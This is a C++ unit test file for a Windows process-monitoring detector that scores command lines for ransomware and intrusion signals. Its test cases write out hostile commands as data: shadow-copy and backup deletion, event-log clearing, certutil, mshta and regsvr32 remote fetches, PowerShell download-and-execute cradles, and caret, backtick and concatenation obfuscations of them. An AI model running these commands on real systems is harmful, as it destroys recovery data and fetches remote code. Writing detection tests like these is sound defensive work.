#include "procmon/extended_process_rules.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <nlohmann/json.hpp>
#include <string>

#include "core/text.h"
#include "procmon/process_heuristics.h"

namespace {

// Base64 of UTF-16LE text, as a PowerShell host expects it.
std::wstring Encoded(const std::u16string& text) {
    static const char kAlphabet[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    std::string bytes;
    for (const char16_t u : text) {
        bytes += static_cast<char>(u & 0xFF);
        bytes += static_cast<char>(u >> 8);
    }
    std::wstring out;
    for (size_t i = 0; i < bytes.size(); i += 3) {
        const size_t n = bytes.size() - i < 3 ? bytes.size() - i : 3;
        uint32_t v = 0;
        for (size_t k = 0; k < 3; ++k) v = (v << 8) | (k < n ? static_cast<unsigned char>(bytes[i + k]) : 0u);
        for (size_t k = 0; k < 4; ++k)
            out += k <= n ? static_cast<wchar_t>(kAlphabet[(v >> (18 - 6 * k)) & 63]) : L'=';
    }
    return out;
}

}  // namespace

TEST(IsEncodedCommandParameter, PrefixesOfEncodedCommandAndItsAliasOnly) {
    const struct {
        const wchar_t* parameter;
        bool expected;
    } cases[] = {
        {L"e", true},
        {L"ec", true},
        {L"en", true},
        {L"enc", true},
        {L"enco", true},
        {L"encod", true},
        {L"encode", true},
        {L"encoded", true},
        {L"encodedc", true},
        {L"encodedcommand", true},
        {L"ENC", true},
        {L"EncodedCommand", true},
        {L"Ec", true},
        {L"encoding", false},
        {L"encodedcommandx", false},
        {L"encodeda", false},
        {L"encodedarguments", false},
        {L"ex", false},
        {L"ep", false},
        {L"executionpolicy", false},
        {L"c", false},
        {L"command", false},
        {L"", false},
        {L"ecc", false},
    };
    for (const auto& c : cases)
        EXPECT_EQ(IsEncodedCommandParameter(c.parameter), c.expected) << WideToUtf8(c.parameter);
}

TEST(FindEncodedCommand, ReadsTheHostsParametersNotTheWholeLine) {
    const struct {
        const char* what;
        const wchar_t* commandLine;
        bool nameIsPowerShell;
        bool found;
        const wchar_t* payload;
    } cases[] = {
        {"short form", L"powershell -e QQBB", true, true, L"QQBB"},
        {"alias, upper case", L"POWERSHELL.EXE -EC QQBB", true, true, L"QQBB"},
        {"slash", L"powershell /enc QQBB", true, true, L"QQBB"},
        {"en dash", L"powershell \u2013enco QQBB", true, true, L"QQBB"},
        {"inline value", L"powershell -EncodedCommand:QQBB", true, true, L"QQBB"},
        {"after flags and valued parameters",
         L"powershell -NoP -NonI -W Hidden -ExecutionPolicy Bypass -e QQBB", true, true, L"QQBB"},
        {"quoted host path with blanks", L"\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -encodedc QQBB",
         true, true, L"QQBB"},
        {"full path through WindowsPowerShell",
         L"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -e QQBB", true, true, L"QQBB"},
        {"started by cmd", L"cmd.exe /c powershell -w hidden -e QQBB", false, true, L"QQBB"},
        {"quoted payload", L"powershell -e \"QQBB\"", true, true, L"QQBB"},
        {"no payload", L"powershell -e", true, true, L""},
        {"arguments only", L"-enc QQBB", true, true, L"QQBB"},
        {"arguments only, not a host", L"-enc QQBB", false, false, L""},
        {"-Encoding belongs to a cmdlet", L"powershell -Command \"Get-Content x -Encoding UTF8\"", true,
         false, L""},
        {"-Encoding on the host line", L"powershell -Encoding utf8", true, false, L""},
        {"after -File the rest are script arguments", L"powershell -File x.ps1 -e QQBB", true, false, L""},
        {"after -c the rest is the command", L"powershell -c Write-Host -e", true, false, L""},
        {"a bare word starts the command", L"powershell Get-Date -e QQBB", true, false, L""},
        {"a valued parameter's value is skipped", L"powershell -ExecutionPolicy -e", true, false, L""},
        {"another tool's -e", L"node.exe -e \"console.log(1)\"", false, false, L""},
        {"grep -e", L"findstr -e foo", false, false, L""},
        {"host name inside a longer word", L"mypowershelltool -e QQBB", false, false, L""},
    };
    for (const auto& c : cases) {
        std::wstring payload = L"stale";
        EXPECT_EQ(FindEncodedCommand(c.commandLine, c.nameIsPowerShell, payload), c.found) << c.what;
        if (c.found) {
            EXPECT_EQ(payload, c.payload) << c.what;
        }
    }
}

TEST(DecodeEncodedCommand, Base64OfWholeUtf16Units) {
    std::u16string text;
    EXPECT_TRUE(DecodeEncodedCommand(L"VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIABoAGkA", text));
    EXPECT_EQ(text, u"Write-Output hi");
    EXPECT_TRUE(DecodeEncodedCommand(Encoded(u"a\u00e9\U0001F600"), text));
    EXPECT_EQ(text, u"a\u00e9\U0001F600");
    EXPECT_TRUE(DecodeEncodedCommand(L"QQA=", text));
    EXPECT_EQ(text, u"A");

    const wchar_t* const undecodable[] = {
        L"",           // nothing
        L"QQA",        // not a multiple of 4
        L"QQ==",       // one byte: half a unit
        L"QQBC QQ==",  // a blank inside
        L"QQ=A",       // data after padding
        L"Q===",       // too much padding
        L"QQB!",       // outside the alphabet
        L"QQB-",       // the URL alphabet is not accepted
        L"\u00c4QBC",  // non-ASCII
    };
    for (const wchar_t* payload : undecodable) {
        EXPECT_FALSE(DecodeEncodedCommand(payload, text)) << WideToUtf8(payload);
        EXPECT_TRUE(text.empty()) << WideToUtf8(payload);
    }
}

TEST(Utf16PrefixToUtf8, CutsAtTheLimitWithoutSplittingAPair) {
    const std::u16string pair = u"\U0001F600";  // D83D DE00
    struct Case {
        const char* what;
        std::u16string text;
        size_t limit;
        std::string expected;
    } cases[] = {
        {"short text whole", u"abc", 200, "abc"},
        {"cut at the limit", std::u16string(250, u'x'), 200, std::string(200, 'x')},
        {"pair fits at the end", std::u16string(198, u'x') + pair, 200,
         std::string(198, 'x') + "\xF0\x9F\x98\x80"},
        {"pair would be split: one unit fewer", std::u16string(199, u'x') + pair + u"y", 200,
         std::string(199, 'x')},
        {"lone high surrogate",
         u"a\xD800"
         u"b",
         200,
         "a\xEF\xBF\xBD"
         "b"},
        {"lone low surrogate", u"\xDC00", 200, "\xEF\xBF\xBD"},
        {"two-byte and three-byte forms", u"\u00e9\u20ac", 200, "\xC3\xA9\xE2\x82\xAC"},
        {"NUL kept", std::u16string(u"a\0b", 3), 200, std::string("a\0b", 3)},
        {"limit zero", u"abc", 0, ""},
    };
    for (const Case& c : cases) EXPECT_EQ(Utf16PrefixToUtf8(c.text, c.limit), c.expected) << c.what;
}

TEST(ScoreProcessExtended, SignalTable) {
    const std::wstring ps = L"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    const struct {
        const char* what;
        std::wstring name, path, commandLine;
        int32_t score;
        const char* fragment;
        const char* decoded;  // the "decoded" member's text, or nullptr for none
    } cases[] = {
        {"clean", L"notepad.exe", L"C:\\Windows\\System32\\notepad.exe", L"notepad x.txt", 0, "\"score\":0",
         nullptr},
        {"-e selects an encoded command, decoded", L"powershell.exe", ps,
         L"powershell -e VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIABoAGkA", 60,
         "\"score\":60,\"signals\":[\"script_engine_powershell\",\"encoded_command\"]", "Write-Output hi"},
        {"the decoded command is scored too", L"powershell.exe", ps,
         L"powershell -enc dgBzAHMAYQBkAG0AaQBuACAAZABlAGwAZQB0AGUAIABzAGgAYQBkAG8AdwBzACAALwBhAGwAbAA=", 100,
         "\"score\":100,\"signals\":[\"script_engine_powershell\",\"encoded_command\",\"shadowcopy_"
         "command\"]",
         "vssadmin delete shadows /all"},
        {"undecodable payload", L"powershell.exe", ps, L"powershell -enc not!base64", 75,
         "\"score\":75,\"signals\":[\"script_engine_powershell\",\"encoded_command\",\"encoded_command_"
         "undecodable\"]",
         nullptr},
        {"-Encoding is no encoded command", L"tool.exe", L"C:\\Windows\\tool.exe", L"tool -Encoding utf8", 0,
         "\"score\":0", nullptr},
        {"FromBase64String still counts", L"pwsh.exe", L"C:\\Program Files\\PowerShell\\7\\pwsh.exe",
         L"pwsh -c [Convert]::FromBase64String('x')", 65,
         "\"score\":65,\"signals\":[\"script_engine_powershell\",\"encoded_command\",\"non_windows_system_"
         "drive\"]",
         nullptr},
        {"started by cmd", L"cmd.exe", L"C:\\Windows\\System32\\cmd.exe",
         L"cmd /c powershell -e VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIABoAGkA", 60,
         "\"score\":60,\"signals\":[\"encoded_command\",\"powershell_started_by_command\"]",
         "Write-Output hi"},
        {"empty path is unknown, never outside", L"svchost.exe", L"", L"", 0, "\"score\":0", nullptr},
        {"core name in a user folder", L"svchost.exe", L"C:\\Users\\u\\AppData\\Roaming\\svchost.exe", L"",
         70, "\"score\":70,\"signals\":[\"user_space_location\",\"core_name_masquerade\"]", nullptr},
        {"core name in a fake system folder", L"svchost.exe",
         L"C:\\Users\\u\\AppData\\Local\\Windows\\System32\\svchost.exe", L"", 70,
         "\"score\":70,\"signals\":[\"user_space_location\",\"core_name_masquerade\"]", nullptr},
        {"core name beside the system folder", L"services.exe", L"C:\\Windows\\services.exe", L"", 60,
         "\"score\":60,\"signals\":[\"core_name_masquerade\"]", nullptr},
        {"core name in the system folder", L"LSASS.EXE", L"C:\\Windows\\System32\\lsass.exe", L"", 0,
         "\"score\":0", nullptr},
        {"core name as the kernel reports it", L"smss.exe", L"\\SystemRoot\\System32\\smss.exe", L"", 0,
         "\"score\":0", nullptr},
        {"core name with a device prefix", L"csrss.exe", L"\\??\\C:\\Windows\\system32\\csrss.exe", L"", 0,
         "\"score\":0", nullptr},
        {"boot recovery off", L"bcdedit.exe", L"C:\\Windows\\System32\\bcdedit.exe",
         L"bcdedit /set {default} recoveryenabled No", 65,
         "\"score\":65,\"signals\":[\"backup_or_boot_tool\",\"boot_recovery_disabled\"]", nullptr},
        {"boot recovery on stays quiet", L"bcdedit.exe", L"C:\\Windows\\System32\\bcdedit.exe",
         L"bcdedit /set {default} recoveryenabled Yes", 25,
         "\"score\":25,\"signals\":[\"backup_or_boot_tool\"]", nullptr},
        {"backup catalog deleted", L"wbadmin.exe", L"C:\\Windows\\System32\\wbadmin.exe",
         L"wbadmin delete catalog -quiet", 65,
         "\"score\":65,\"signals\":[\"backup_or_boot_tool\",\"backup_deletion\"]", nullptr},
        {"log cleared", L"wevtutil.exe", L"C:\\Windows\\System32\\wevtutil.exe", L"wevtutil cl System", 60,
         "\"score\":60,\"signals\":[\"event_log_clearing\"]", nullptr},
        {"log queried", L"wevtutil.exe", L"C:\\Windows\\System32\\wevtutil.exe", L"wevtutil qe System /c:5",
         0, "\"score\":0", nullptr},
        {"certutil download", L"certutil.exe", L"C:\\Windows\\System32\\certutil.exe",
         L"certutil -urlcache -split -f http://x/a.exe a.exe", 60,
         "\"score\":60,\"signals\":[\"lolbin_tool\",\"system_tool_download\"]", nullptr},
        {"certutil hash", L"certutil.exe", L"C:\\Windows\\System32\\certutil.exe",
         L"certutil -hashfile a.iso SHA256", 15, "\"score\":15,\"signals\":[\"lolbin_tool\"]", nullptr},
        {"download piped into execution", L"powershell.exe", ps, L"powershell \"iwr http://x/s.ps1 | iex\"",
         105,
         "\"score\":105,\"signals\":[\"script_engine_powershell\",\"invoke_expression\",\"download_piped_to_"
         "execution\"]",
         nullptr},
        {"download to a file", L"powershell.exe", ps,
         L"powershell -c \"iwr https://x/d.json -OutFile d.json\"", 25,
         "\"score\":25,\"signals\":[\"script_engine_powershell\"]", nullptr},
        {"mshta remote", L"mshta.exe", L"C:\\Windows\\System32\\mshta.exe", L"mshta http://x/a.hta", 65,
         "\"score\":65,\"signals\":[\"lolbin_mshta\",\"script_host_remote_code\"]", nullptr},
        {"regsvr32 scriptlet", L"regsvr32.exe", L"C:\\Windows\\System32\\regsvr32.exe",
         L"regsvr32 /s /n /u /i:http://x/f.sct scrobj.dll", 60,
         "\"score\":60,\"signals\":[\"lolbin_dll_loader\",\"script_host_remote_code\"]", nullptr},
        {"script from downloads", L"wscript.exe", L"C:\\Windows\\System32\\wscript.exe",
         L"wscript.exe C:\\Users\\u\\Downloads\\invoice.js", 60,
         "\"score\":60,\"signals\":[\"script_host\",\"script_from_user_folder\"]", nullptr},
        {"a .json is no script", L"wscript.exe", L"C:\\Windows\\System32\\wscript.exe",
         L"wscript.exe C:\\Users\\u\\Downloads\\x.json", 20, "\"score\":20,\"signals\":[\"script_host\"]",
         nullptr},
        {"iexplore is no iex", L"iexplore.exe", L"C:\\Program Files\\Internet Explorer\\iexplore.exe",
         L"iexplore.exe http://x/", 5, "\"score\":5,\"signals\":[\"non_windows_system_drive\"]", nullptr},
    };
    for (const auto& c : cases) {
        std::string fragment = "left over", decoded = "left over";
        EXPECT_EQ(ScoreProcessExtended(c.name, c.path, c.commandLine, fragment, decoded), c.score) << c.what;
        EXPECT_EQ(fragment, c.fragment) << c.what;
        if (c.decoded) {
            EXPECT_EQ(decoded, std::string("\"decoded\":\"") + c.decoded + "\"") << c.what;
        } else {
            EXPECT_EQ(decoded, "") << c.what;
        }
        const auto parsed = nlohmann::json::parse(
            "{" + fragment + (decoded.empty() ? "" : "," + decoded) + "}", nullptr, false);
        EXPECT_TRUE(parsed.is_object()) << c.what;
    }
}

// The "decoded" member holds the first 200 units, escaped like any other text.
TEST(ScoreProcessExtended, DecodedMemberIsCutAndEscaped) {
    std::u16string script = u"Write-Host \"a\\b\"\t";
    script += std::u16string(182, u'z');
    script += u"\U0001F600 tail";  // the pair is units 199 and 200: it would be split, so it goes
    ASSERT_EQ(script.size(), 17u + 182u + 7u);
    std::string fragment, decoded;
    ScoreProcessExtended(L"powershell.exe", L"", L"powershell -e " + Encoded(script), fragment, decoded);
    const auto j = nlohmann::json::parse("{" + decoded + "}", nullptr, false);
    ASSERT_TRUE(j.is_object()) << decoded;
    EXPECT_EQ(j["decoded"], "Write-Host \"a\\b\"\t" + std::string(182, 'z'));
    EXPECT_EQ(decoded.find('\t'), std::string::npos);
}

// Signals kept from ScoreProcess keep their names and points: on lines that
// touch none of the changed tests, both scores agree.
TEST(ScoreProcessExtended, AgreesWithScoreProcessWhereNothingChanged) {
    const struct {
        const wchar_t* name;
        const wchar_t* path;
        const wchar_t* commandLine;
    } cases[] = {
        {L"WMIC.exe", L"C:\\Windows\\System32\\wbem\\WMIC.exe", L"wmic process list"},
        {L"vssadmin.exe", L"C:\\Windows\\System32\\vssadmin.exe", L"vssadmin delete shadows /all /quiet"},
        {L"wscript.exe", L"C:\\Windows\\SysWOW64\\wscript.exe", L"wscript x.vbs"},
        {L"cmd.exe", L"C:\\Windows\\System32\\cmd.exe", L"cmd.exe /c compact /u"},
        {L"Invoice_2024.exe", L"C:\\Users\\user\\Downloads\\Invoice_2024.exe", L""},
        {L"setup.exe", L"C:\\Windows\\Temp\\setup.exe", L""},
        {L"tool.exe", L"D:\\Tools\\tool.exe", L"tool --help"},
        {L"powershell_ise.exe", L"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell_ise.exe", L""},
    };
    for (const auto& c : cases) {
        std::string specified, extended, decoded;
        EXPECT_EQ(ScoreProcessExtended(c.name, c.path, c.commandLine, extended, decoded),
                  ScoreProcess(c.name, c.path, c.commandLine, specified))
            << WideToUtf8(c.commandLine);
        EXPECT_EQ(extended, specified) << WideToUtf8(c.name);
    }
}

// Each spelling variation that took a textbook line below the threshold: the
// normalised text, the look-alike name and the shell starting a tool bring it
// back, with the signals the textbook line shows.
TEST(ScoreProcessExtended, SpellingVariationsScoreLikeTheTextbookLine) {
    const std::wstring ps = L"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    const std::wstring cmd = L"C:\\Windows\\System32\\cmd.exe";
    const std::wstring vss = L"C:\\Windows\\System32\\vssadmin.exe";
    const std::wstring cradle = L"IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')";
    const struct {
        const char* what;
        std::wstring name, path, commandLine;
        const char* signal;  // one signal the line must show
    } cases[] = {
        {"doubled blank", L"vssadmin.exe", vss, L"vssadmin delete  shadows /all /quiet",
         "shadowcopy_command"},
        {"tab", L"vssadmin.exe", vss, L"vssadmin delete\tshadows /all /quiet", "shadowcopy_command"},
        {"quoted switch", L"powershell.exe", ps,
         L"powershell -\"enc\" " + Encoded(u"vssadmin delete shadows"), "shadowcopy_command"},
        {"carets through cmd", L"cmd.exe", cmd, L"cmd /c v^s^s^a^d^m^i^n d^e^l^e^t^e s^h^a^d^o^w^s /all",
         "backup_or_boot_tool"},
        {"quotes through cmd", L"cmd.exe", cmd, L"cmd /c \"w\"m\"i\"c sha\"dowcopy\" delete", "lolbin_tool"},
        {"backticks", L"powershell.exe", ps,
         L"powershell -c \"I`E`X (New-Object Net.WebClient).`D`o`w`n`l`o`a`d`S`t`r`i`n`g('http://x/a')\"",
         "script_download_cradle"},
        {"concatenated method", L"powershell.exe", ps,
         L"powershell -c \"IEX (New-Object Net.WebClient).('Down'+'loadString').Invoke('http://x/a')\"",
         "script_download_cradle"},
        {"concatenated program", L"powershell.exe", ps,
         L"powershell -c \"& ('vss'+'admin') ('del'+'ete') ('sha'+'dows') /all /quiet\"",
         "shadowcopy_command"},
        {"encoded and escaped inside", L"powershell.exe", ps,
         L"powershell -e " + Encoded(u"I`EX (New-Object Net.WebClient).('Down'+'loadString')('http://x/a')"),
         "script_download_cradle"},
        {"look-alike name", L"svch0st.exe", L"C:\\Users\\u\\AppData\\Roaming\\svch0st.exe", L"svch0st.exe",
         "core_name_lookalike"},
        {"look-alike name, path unknown", L"scvhost.exe", L"", L"", "core_name_lookalike"},
        {"cmd starting PowerShell with carets", L"cmd.exe", cmd, L"cmd /c p^owershell -c \"" + cradle + L"\"",
         "powershell_started_by_command"},
    };
    for (const auto& c : cases) {
        std::string fragment, decoded;
        EXPECT_GE(ScoreProcessExtended(c.name, c.path, c.commandLine, fragment, decoded), 60) << c.what;
        EXPECT_NE(fragment.find(std::string("\"") + c.signal + "\""), std::string::npos)
            << c.what << fragment;
    }
}

// A near-miss spelling is weaker evidence than look-alike characters: under
// Program Files it does not count.
TEST(ScoreProcessExtended, SlipsCountOutsideInstalledProgramsOnly) {
    const struct {
        std::wstring name, path;
        bool lookAlike;
    } cases[] = {
        {L"winint.exe", L"C:\\Program Files\\Winint\\winint.exe", false},
        {L"winint.exe", L"C:\\Users\\u\\AppData\\Local\\winint.exe", true},
        {L"winint.exe", L"", true},
        {L"w1ninit.exe", L"C:\\Program Files\\W\\w1ninit.exe", true},
    };
    for (const auto& c : cases) {
        std::string fragment, decoded;
        ScoreProcessExtended(c.name, c.path, L"", fragment, decoded);
        EXPECT_EQ(fragment.find("core_name_lookalike") != std::string::npos, c.lookAlike)
            << WideToUtf8(c.path) << fragment;
    }
}

TEST(ClaimedStem, WhatAClaimedNameStandsFor) {
    const struct {
        std::wstring claimed, stem;
    } cases[] = {
        {L"VSSADMIN.EXE.MUI", L"vssadmin"},
        {L"vssadmin.exe", L"vssadmin"},
        {L"vssadmin", L"vssadmin"},
        {L"pwsh.dll", L"pwsh"},
        {L"C:\\x\\Tool.exe", L"tool"},
        {L"tool.exe  ", L"tool"},
        {L".mui", L".mui"},
        {L"", L""},
        {L"a.b.c", L"a.b"},
    };
    for (const auto& c : cases) EXPECT_EQ(ClaimedStem(c.claimed), c.stem) << WideToUtf8(c.claimed);
    EXPECT_FALSE(ClaimsOtherName(L"pwsh.exe", L"pwsh.dll"));
    EXPECT_FALSE(ClaimsOtherName(L"powershell.exe", L"PowerShell.EXE.MUI"));
    EXPECT_FALSE(ClaimsOtherName(L"svc.exe", L""));
    EXPECT_TRUE(ClaimsOtherName(L"svc.exe", L"vssadmin.exe"));
}

// The version resource's names: a copy of a system tool under another name
// scores as the tool (its command line read as the tool's), plus
// renamed_system_tool; a claim only ever adds; a claim of the image's own
// name changes nothing.
TEST(ScoreProcessExtended, ClaimedNamesOnlyRaiseTheScore) {
    const std::wstring temp = L"C:\\Users\\u\\AppData\\Local\\Temp\\";
    const struct {
        const char* what;
        std::wstring name, original, internal, path, commandLine;
        int32_t score;
        const char* fragment;
    } cases[] = {
        {"copied shadow-copy tool", L"svc.exe", L"VSSADMIN.EXE.MUI", L"", temp + L"svc.exe",
         L"svc.exe delete shadows /all /quiet", 105,
         "\"score\":105,\"signals\":[\"backup_or_boot_tool\",\"shadowcopy_command\",\"user_space_location\","
         "\"renamed_system_tool\"]"},
        {"by its internal name", L"svc.exe", L"", L"vssadmin", temp + L"svc.exe",
         L"svc.exe delete shadows /all /quiet", 105,
         "\"score\":105,\"signals\":[\"backup_or_boot_tool\",\"shadowcopy_command\",\"user_space_location\","
         "\"renamed_system_tool\"]"},
        {"copied certificate tool, read as the tool", L"tool.exe", L"CertUtil.exe.mui", L"",
         temp + L"tool.exe", L"\"" + temp + L"tool.exe\" -urlcache -f http://x/a.exe a.exe", 100,
         "\"score\":100,\"signals\":[\"lolbin_tool\",\"user_space_location\",\"system_tool_download\","
         "\"renamed_system_tool\"]"},
        {"a command line of arguments only", L"nt.exe", L"wevtutil.exe", L"", temp + L"nt.exe",
         L"cl Security", 100,
         "\"score\":100,\"signals\":[\"user_space_location\",\"event_log_clearing\",\"renamed_system_"
         "tool\"]"},
        {"claims a core name away from its folder", L"host.exe", L"svchost.exe", L"",
         L"C:\\Windows\\System32\\host.exe", L"", 60, "\"score\":60,\"signals\":[\"core_name_masquerade\"]"},
        {"claims a harmless program", L"vssadmin.exe", L"notepad.exe", L"",
         L"C:\\Windows\\System32\\vssadmin.exe", L"vssadmin delete shadows /all", 65,
         "\"score\":65,\"signals\":[\"backup_or_boot_tool\",\"shadowcopy_command\"]"},
        {"claims its own name", L"powershell.exe", L"PowerShell.EXE.MUI", L"POWERSHELL",
         L"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", L"powershell -nop", 25,
         "\"score\":25,\"signals\":[\"script_engine_powershell\"]"},
        {"an everyday program's own build name", L"Code.exe", L"electron.exe", L"",
         L"C:\\Program Files\\Microsoft VS Code\\Code.exe", L"Code.exe --folder-uri x", 5,
         "\"score\":5,\"signals\":[\"non_windows_system_drive\"]"},
    };
    for (const auto& c : cases) {
        std::string fragment, decoded, plain, plainDecoded;
        const int32_t score =
            ScoreProcessExtended(c.name, c.original, c.internal, c.path, c.commandLine, fragment, decoded);
        EXPECT_EQ(score, c.score) << c.what;
        EXPECT_EQ(fragment, c.fragment) << c.what;
        EXPECT_GE(score, ScoreProcessExtended(c.name, c.path, c.commandLine, plain, plainDecoded)) << c.what;
        // Every signal of the image name alone is still there.
        const auto all = nlohmann::json::parse("{" + fragment + "}");
        const auto alone = nlohmann::json::parse("{" + plain + "}");
        for (const auto& signal : alone.value("signals", nlohmann::json::array()))
            EXPECT_NE(std::find(all["signals"].begin(), all["signals"].end(), signal), all["signals"].end())
                << c.what << " lost " << signal;
    }
}
